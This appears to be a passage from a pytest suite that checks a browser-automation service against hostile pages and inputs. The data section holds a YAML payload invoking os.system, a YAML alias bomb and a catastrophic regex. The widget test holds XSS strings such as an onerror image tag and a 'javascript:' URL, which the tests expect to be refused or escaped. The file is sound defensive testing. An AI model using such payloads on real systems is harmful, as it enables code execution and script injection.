        ws: Any, human: Any, site: Any) -> None:
    s = ws.browser.open(site.url("/login"), by=human, record="rec-secret")
    try:
        s.fill("label=Email", PASSWORD)  # the configured secret's value in a non-password field
        s.run(lambda p: p.click("#password"))
        s.run(lambda p: p.keyboard.type("typed-in-page-pw-991"))  # a person typing into the password field
        s.run(lambda p: p.click("#project"))
        sc = s.stop(save=True)
    finally:
        s.close()
    text = sc.to_yaml() + ws.browser.script("rec-secret").to_yaml()
    text += json.dumps([e.to_dict() for e in trail(ws)], default=str)
    assert PASSWORD not in text and "typed-in-page-pw-991" not in text
    assert "portal_password" in sc.secrets


# ================================================================== hostile pages
def test_attack_a_page_whose_dom_apis_lie_gets_a_recorded_click_replayed_on_another_element(
        ws: Any, human: Any, site: Any) -> None:
    """/swap's scripts swap the two buttons' ids, test ids and texts for anything reading the DOM in the
    page's world: a recorded click on 'Go now' must still replay on 'Go now', never 'Delete everything'."""
    def swap_hits(since: int) -> list[str]:
        return [r for r in site.requests[since:] if "?swap" in r]

    def wait_hit(since: int) -> list[str]:
        end = time.monotonic() + 5
        while not swap_hits(since) and time.monotonic() < end:
            time.sleep(0.05)
        return swap_hits(since)

    since = len(site.requests)
    s = ws.browser.open(site.url("/swap"), by=human, record="swap-click")
    try:
        s.click("#go")
        sc = s.stop(save=True)
    finally:
        s.close()
    assert [r.split(" ")[1].split("?")[0].rsplit("/", 1)[1] for r in wait_hit(since)] == ["signed"]
    since = len(site.requests)
    res = ws.browser.replay(sc.name, by=human, heal=False)
    hits = wait_hit(since)
    assert res.status == "completed" and hits and all("/signed" in r for r in hits), (hits, sc.to_yaml())


def test_attack_extraction_on_a_page_poisoning_dom_and_builtins_reads_true_rows_or_refuses(
        ws: Any, human: Any, site: Any) -> None:
    tpl = ExtractionTemplate(name="liar", rows="tr.r", fields=[FieldSpec(name="n", selector="td.n"),
                                                                 FieldSpec(name="v", selector="td.v", type="float")])
    s = ws.browser.open(site.url("/liar"), by=human)
    try:
        try:
            df = s.extract(tpl)
        except EmergentError as exc:  # a clear refusal (ours, with a hint), never a raw Playwright error
            assert exc.hint
        else:
            assert df["n"].to_list() == [f"CMP-{i:03d}" for i in range(1, 6)]
            assert df["v"].to_list() == [i + 0.5 for i in range(1, 6)]
        s.click("#go")  # acting goes through Playwright's own selector engine: unaffected
    finally:
        s.close()


@pytest.mark.parametrize("op", ["find", "candidates", "describe_at"])
def test_attack_a_page_poisoning_query_selector_all_gets_a_clear_error(ws: Any, human: Any, site: Any,
                                                                       op: str) -> None:
    s = ws.browser.open(site.url("/liar"), by=human)
    try:
        call = {"find": lambda: s.find("Go now"), "candidates": lambda: s.candidates("#go"),
                "describe_at": lambda: s.describe_at(20, 20)}[op]
        with contextlib.suppress(EmergentError):
            call()
    finally:
        s.close()


def test_attack_a_huge_dom_keeps_inventory_bounded_in_time(ws: Any, human: Any, site: Any) -> None:
    from emergent.browser import locators

    s = ws.browser.open(site.url("/huge"), by=human)
    try:
        inv = s.run(lambda p: asyncio.wait_for(locators.inventory(p), 5))  # the test's bound, not the service's
    finally:
        s.close()  # the context goes, and with it a renderer still busy in the inventory's JS
    assert len(inv) <= 5000


def test_attack_endless_pagination_is_bounded_by_max_pages(ws: Any, human: Any, site: Any) -> None:
    tpl = ExtractionTemplate(name="endless", url=site.url("/endless?page=1"), rows="tr.r",
                             fields=[FieldSpec(name="n", selector="td.n")],
                             pagination=Pagination(kind="next", next=Target.of("a.next"), max_pages=4, wait_ms=2000))
    df = ws.browser.extract(tpl, by=human)
    assert df["n"].to_list() == ["row 1", "row 2", "row 3", "row 4"]
    df = ws.browser.extract(tpl, by=human, max_pages=2)
    assert df.height == 2


def test_attack_a_page_that_never_finishes_loading_times_out_cleanly(ws: Any, human: Any, site: Any) -> None:
    s = ws.browser.open(by=human)
    try:
        t0 = time.monotonic()
        with pytest.raises(TimeoutExceeded) as exc:
            s.goto(site.url("/never"))
        assert time.monotonic() - t0 < 6
        assert exc.value.hint and "Traceback" not in str(exc.value)
        s.goto(site.url("/login"))  # the session is still usable
    finally:
        s.close()


@pytest.mark.parametrize("page", ["decoy", "twin"])
def test_attack_a_near_identical_destructive_decoy_is_not_taken_by_healing(ws: Any, human: Any, site: Any,
                                                                           page: str) -> None:
    """decoy: 'Sign in now!' (destructive, first) beside 'Sign in now'; twin: two identical 'Sign in now'
    buttons, the destructive one at the recorded position. Healing takes the right one or none."""
    site.hits.pop("decoy_v2_on", None)
    s = ws.browser.open(site.url(f"/{page}"), by=human, record=f"{page}-click")
    try:
        s.click("#go")
        sc = s.stop(save=True)
    finally:
        s.close()
    site.hits["decoy_v2_on"] = 1
    try:
        since = len(site.requests)
        quick = sc.model_copy(update={"actions": [a.model_copy(update={"timeout_ms": 2000}) for a in sc.actions]})
        res = ws.browser.replay(quick, by=human)
        time.sleep(0.3)  # a click's fetch reaches the server a moment after the replay returns
    finally:
        site.hits.pop("decoy_v2_on", None)
    assert not any("/deleted" in r for r in site.requests[since:]), res.model_dump_json()
    if page == "twin":  # two equal candidates: refused (ambiguous, or the ladder ran out of time under load)
        assert res.status == "failed", res.model_dump_json()


# ================================================================== data
def test_attack_yaml_with_python_tags_depth_and_bad_bytes_is_refused(tmp_path: Path) -> None:
    for text in ("name: x\nactions: !!python/object/apply:os.system ['touch /tmp/pwned-by-yaml']\n",
                 "name: x\nactions:\n- !!python/name:os.system\n",
                 "name: x\ndescription: " + "[" * 3000 + "\n"):
        with pytest.raises(ValidationError):
            Script.from_yaml(text)
    p = tmp_path / "bad.yaml"
    p.write_bytes(b"name: \xff\xfe\nrows: tr\n")
    with pytest.raises(ValidationError):
        ExtractionTemplate.from_yaml(p)
    assert not Path("/tmp/pwned-by-yaml").exists()


def test_attack_a_yaml_alias_bomb_is_refused(tmp_path: Path) -> None:
    bomb = "name: bomb\nrows: tr\nfields: [{name: a}]\nlearned_from:\n  l0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"
    for i in range(1, 6):
        bomb += f"  l{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]\n"
    with pytest.raises(ValidationError):
        ExtractionTemplate.from_yaml(bomb)


def test_attack_nan_inf_and_non_utf8_cells_come_out_as_data(ws: Any, agent: Any, human: Any, site: Any) -> None:
    tpl = ExtractionTemplate(name="weird", url=site.url("/weird"), rows="tr.r",
                             fields=[FieldSpec(name="n", selector="td.n"),
                                     FieldSpec(name="v", selector="td.v", type="float", required=False)])
    ws.browser.save_template(tpl, by=human)
    out = ws.tools.call("browser.extract", {"template": "weird"}, principal=agent)
    json.dumps(out, allow_nan=False)
    assert out["count"] == 4 and out["rows"][0]["n"].endswith("café")


def test_attack_a_catastrophic_field_pattern_does_not_stall_the_service(ws: Any, agent: Any, site: Any) -> None:
    def took(pattern: str) -> float:
        tpl = ExtractionTemplate(name="redos", url=site.url("/redos"), rows="tr.r",
                                 fields=[FieldSpec(name="n", selector="td.n", pattern=pattern, required=False)])
        t0 = time.monotonic()
        with contextlib.suppress(EmergentError):  # refused, or matched under a bound: either way quickly
            ws.tools.call("browser.extract", {"template": tpl.model_dump(mode="json")}, principal=agent)
        return time.monotonic() - t0

    took(r"^(a+)$")  # warm (Chromium may launch here)
    linear = took(r"^(a+)$")
    nested = took(r"^(a+)+$")  # 2^25 backtracking paths on the 26-character cell: ~2 s of re
    assert nested - linear < 1.0, (linear, nested)


# ================================================================== widgets
def test_attack_html_in_titles_texts_and_errors_is_escaped_in_the_widgets(ws: Any, human: Any, site: Any) -> None:
    from emergent.ui.browser import AutomationDesigner, SelectorBuilder

    b = SelectorBuilder(ws.browser, by=human, url=site.url("/xss"))
    try:
        b.find("Evil")
        b.url_box.value = "javascript:<img src=x onerror=alert(4)>"
        b.go_button.click()
        shown = [w.value for w in (b.status,)]
        b.text_box.value = "<svg onload=alert(5)>"
        b.find_button.click()
        shown.append(b.status.value)
        b.test_button.click()
        shown.append(b.status.value)
    finally:
        b.close()
    d = AutomationDesigner(ws.browser, ws.workflows, by=human)
    with contextlib.suppress(EmergentError):
        d.add_script("<img src=x onerror=alert(6)>")
    shown += [d.status.value, d.yaml.value]
    for v in shown:
        assert not re.search(r"<(img|svg|script|b )", v, re.I), v


# ================================================================== concurrency and faults
def test_attack_one_session_driven_from_two_threads(ws: Any, human: Any, site: Any) -> None:
    s = ws.browser.open(site.url("/login"), by=human)
    errors: list[BaseException] = []

    def work(target: str, prefix: str) -> None:
        try:
            for i in range(6):
                s.fill(target, f"{prefix}{i}")
        except BaseException as exc:  # noqa: BLE001 - collected for the assertion
            errors.append(exc)

    threads = [threading.Thread(target=work, args=("#email", "e")), threading.Thread(target=work, args=("#project", "p"))]
    try:
        for t in threads:
            t.start()
        for t in threads:
            t.join(30)
        assert not any(t.is_alive() for t in threads)
        assert errors == []
        assert s.run(lambda p: p.input_value("#email")) == "e5"
        assert s.run(lambda p: p.input_value("#project")) == "p5"
    finally:
        s.close()


def _chromium_pids() -> set[int]:
    me = os.getpid()
    out = set()
    for d in Path("/proc").iterdir():
        if not d.name.isdigit():
            continue
        try:
            stat = (d / "stat").read_text()
            cmd = (d / "cmdline").read_bytes()
        except OSError:
            continue
        if b"chromium" not in cmd or b"--remote-debugging-pipe" not in cmd:
            continue
        ppid = int(stat.rsplit(")", 1)[1].split()[1])
        # our Chromium: its parent is the Playwright driver, whose parent is this process
        try:
            pstat = (Path("/proc") / str(ppid) / "stat").read_text()
        except OSError:
            continue
        if int(pstat.rsplit(")", 1)[1].split()[1]) == me:
            out.add(int(d.name))
    return out


def test_attack_chromium_killed_mid_session_then_a_new_session_works(site: DemoSite,
                                                                      tmp_path_factory: pytest.TempPathFactory) -> None:
    w = _open_ws(site, tmp_path_factory.mktemp("kill") / "ws")
    try:
        before = _chromium_pids()
        s = w.browser.open(site.url("/login"), by=w.principal)
        mine = _chromium_pids() - before
        assert len(mine) == 1
        os.kill(mine.pop(), signal.SIGKILL)
        time.sleep(0.5)
        with pytest.raises(EmergentError, match="closed") as exc:
            s.goto(site.url("/table"))
        assert exc.value.hint
        s2 = w.browser.open(site.url("/table"), by=w.principal)  # a new Chromium is launched
        assert s2.count("tr.result-row") == 10
        with pytest.raises(EmergentError, match="closed"):  # the old session stays dead, with our error
            s.click("#email")
    finally:
        w.close()


def test_attack_closing_the_service_during_a_replay(site: DemoSite, tmp_path_factory: pytest.TempPathFactory) -> None:
    w = _open_ws(site, tmp_path_factory.mktemp("close") / "ws")
    sc = Script(name="slow", actions=[Action(kind="navigate", value=site.url("/login")),
                                      Action(kind="wait", target=Target.of("#never-there"), timeout_ms=8000)])
    w.browser.save_script(sc, by=w.principal)
    got: list[Any] = []

    def go() -> None:
        try:
            got.append(w.browser.replay("slow", by=w.principal, heal=False))
        except BaseException as exc:  # noqa: BLE001 - collected for the assertion
            got.append(exc)

    t = threading.Thread(target=go)
    t.start()
    end = time.monotonic() + 20
    while time.monotonic() < end and not any(e.data.get("action") == "wait" for e in trail(w, "browser.action")):
        time.sleep(0.05)  # until the replay is inside its waiting step
    time.sleep(0.2)
    t0 = time.monotonic()
    w.close()
    t.join(20)
    assert not t.is_alive() and time.monotonic() - t0 < 15
    out = got[0]
    assert isinstance(out, EmergentError) or getattr(out, "status", None) == "failed", repr(out)
    with pytest.raises(StateConflictError):
        w.browser.open(by=w.principal)

